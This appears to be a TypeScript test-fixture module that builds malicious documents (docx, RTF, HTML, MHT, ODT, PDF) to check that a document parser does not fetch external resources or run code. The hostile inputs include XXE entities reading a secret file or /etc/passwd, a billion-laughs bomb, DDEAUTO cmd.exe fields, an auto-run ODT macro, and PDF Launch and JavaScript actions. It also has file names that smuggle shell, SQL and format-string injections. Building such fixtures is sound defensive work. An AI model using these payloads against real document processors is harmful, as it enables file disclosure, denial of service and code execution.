import { p } from '../../extract/docx/build.js';
import { type BrokenFile, file, replaced } from './file.js';
import { BODY, docxOf, orderText, type Sound } from './sound.js';

/**
 * Files that would have others opened, from the disk or over the network, or something run.
 * @param trap where they point: `url` answers and counts, `file` holds words that no order has
 */
export const reachingFiles = (trap: Trap, { odt, pdf }: Sound): readonly BrokenFile[] => {
  const { url, file: secret } = trap;
  const external = (kind: string, body = BODY): Buffer =>
    docxOf({ body, parts: [{ name: 'x', id: 'r9', kind, bytes: '', external: `${url}/${kind}` }] });
  return [
    file(
      'reach/entity.docx',
      docxOf(
        { body: BODY },
        { 'word/document.xml': `<!DOCTYPE x [<!ENTITY e SYSTEM "${secret}">]><w:document xmlns:w="urn"><w:t>&e;</w:t></w:document>` },
      ),
      'corrupt',
    ),
    file(
      'reach/doctype.docx',
      docxOf({ body: BODY }, { 'word/document.xml': `<!DOCTYPE x SYSTEM "${url}/a.dtd"><w:document xmlns:w="urn"/>` }),
      'corrupt',
    ),
    file(
      'reach/laughs.docx',
      docxOf({ body: BODY }, { 'word/document.xml': `<!DOCTYPE x [${LAUGHS}]><w:document xmlns:w="urn"><w:t>&l9;</w:t></w:document>` }),
      'corrupt',
    ),
    file(
      'reach/styles-entity.docx',
      docxOf({ body: BODY }, { 'word/styles.xml': `<!DOCTYPE x SYSTEM "${url}/s.dtd"><w:styles/>` }),
      'parsed',
    ),
    file(
      'reach/one-file.xml',
      `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${url}/a.dtd"><?mso-application progid="Word.Document"?><pkg:package/>`,
      'corrupt',
    ),
    ...['image', 'attachedTemplate', 'hyperlink', 'subDocument', 'oleObject', 'frame', 'settings'].map((kind) =>
      file(`reach/${kind}.docx`, external(kind), 'parsed'),
    ),
    file('reach/chunk-url.docx', external('aFChunk', `${BODY}<w:altChunk r:id="r9"/>`), 'parsed'),
    ...[secret, '../../../../../../etc/passwd', '/etc/passwd', `file://${secret}`].map((target, index) =>
      file(`reach/chunk-${index}.docx`, chunkTo(target), 'parsed'),
    ),
    file(
      'reach/field.docx',
      docxOf({
        body: `${BODY}<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "${secret}"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k touch x"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      }),
      'parsed',
    ),
    file(
      'reach/page.html',
      `<html><head><base href="${url}/"><link rel=stylesheet href="a.css"><script src="a.js"></script><meta http-equiv=refresh content="0;url=${url}"></head><body>${asHtml('страница')}<img src="a.png"><iframe src="file://${secret}"></iframe><object data="${url}/o"></object></body></html>`,
      'parsed',
    ),
    file(
      'reach/archive.mht',
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: ${url}/\r\n\r\n<html>${asHtml('архив')}<img src="${url}/a.png"></html>\r\n--b\r\nContent-Type: message/external-body; access-type=URL; URL="${url}/b"\r\n\r\n\r\n--b--\r\n`,
      'parsed',
    ),
    file(
      'reach/picture.rtf',
      `{\\rtf1\\ansi\\ansicpg1251 ${asRtf('приказ')}\\par {\\field{\\*\\fldinst INCLUDEPICTURE "${url}/a.png" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst INCLUDETEXT "${secret}"}{\\fldrslt }}{\\object\\objlink\\objupdate{\\*\\objclass Package}{\\*\\objdata 00}}}`,
      'parsed',
    ),
    file(
      'reach/links.fodt',
      flatOdt(
        `<text:section text:name="s"><text:section-source xlink:type="simple" xlink:href="${secret}" xlink:show="embed"/><text:p/></text:section><text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:type="simple" xlink:href="${url}/odt.png" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>`,
      ),
      'parsed',
    ),
    ...PDF_ACTIONS.map(([name, action]) =>
      file(`reach/${name}.pdf`, replaced(pdf, '/Type/Catalog', `/Type/Catalog/OpenAction <<${action(trap)}>> `), 'parsed'),
    ),
    file('macro/word.docm', docxOf({ body: p('ПРИКАЗ') + BODY }, { 'word/vbaProject.bin': 'Sub AutoOpen()' }), 'parsed', {
      noticed: ['macro-present'],
    }),
    file('macro/renamed.docx', docxOf({ body: BODY }, { 'customXml/vbaProject.bin': 'Sub Document_Open()' }), 'parsed', {
      noticed: ['macro-present'],
    }),
    file(
      'macro/basic.fodt',
      flatOdt(
        '',
        `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries xmlns:ooo="http://openoffice.org/2004/office"><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main\nShell "touch ${trap.mark}"\nEnd Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>`,
      ),
      'parsed',
      { noticed: ['macro-present'] },
    ),
    ...SHELL_NAMES.map((name, index) =>
      file(
        `shell/${name}`,
        index % 2 === 0 ? `{\\rtf1\\ansi\\ansicpg1251 ${asRtf(`оболочка ${index}`)}}` : orderText(`оболочка ${index}`),
        'parsed',
      ),
    ),
    file('reach/odt-copy.odt', Buffer.concat([odt, Buffer.alloc(3)]), 'parsed'),
  ];
};

export interface Trap {
  readonly url: string;
  /** Absolute path of a file with words that no order has. */
  readonly file: string;
  /** Absolute path of a file that whatever is run would make. */
  readonly mark: string;
}

/** Points nowhere. */
export const NO_TRAP: Trap = { url: 'http://127.0.0.1:9', file: '/etc/hostname', mark: '/tmp/poryadok-mark' };

const LAUGHS = ['<!ENTITY l0 "ха">', ...Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)].join('');

const chunkTo = (target: string): Buffer =>
  docxOf(
    { body: `${BODY}<w:altChunk r:id="r9"/>` },
    {
      'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="${target}"/></Relationships>`,
    },
  );

const asHtml = (mark: string): string =>
  orderText(mark)
    .split('\n\n')
    .map((text) => `<p>${text}</p>`)
    .join('');

const asRtf = (mark: string): string =>
  orderText(mark)
    .split('\n\n')
    .map((text) => [...text].map((letter) => `\\u${letter.charCodeAt(0)}?`).join(''))
    .join('\\par ');

const flatOdt = (body: string, scripts = ''): string =>
  `<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">${scripts}<office:body><office:text>${orderText(
    scripts === '' ? 'ссылки' : 'макросы',
  )
    .split('\n\n')
    .map((text) => `<text:p>${text.trim()}</text:p>`)
    .join('')}${body}</office:text></office:body></office:document>`;

const PDF_ACTIONS: readonly (readonly [string, (trap: Trap) => string])[] = [
  ['launch', ({ mark }) => `/S /Launch /F (/usr/bin/touch) /Win <</F (cmd.exe) /P (/c ${mark})>>`],
  ['uri', ({ url }) => `/S /URI /URI (${url}/pdf)`],
  ['script', ({ url }) => `/S /JavaScript /JS (app.launchURL\\("${url}/js"\\); this.submitForm\\("${url}/form"\\);)`],
  ['remote', ({ file: secret }) => `/S /GoToR /F (${secret}) /D [0 /Fit]`],
  ['form', ({ url }) => `/S /SubmitForm /F (${url}/form)`],
];

/** Nothing of a name may reach a shell or be taken for an option. */
const SHELL_NAMES = [
  '$(touch poryadok-mark).rtf',
  '`touch poryadok-mark`.txt',
  '; touch poryadok-mark ;.rtf',
  '| tee poryadok-mark.txt',
  '--help.rtf',
  '-env:UserInstallation=x.txt',
  "' OR 1=1 --.rtf",
  '"; DROP TABLE documents; --.txt',
  '%s%n%d.rtf',
  '&&reboot.txt',
];
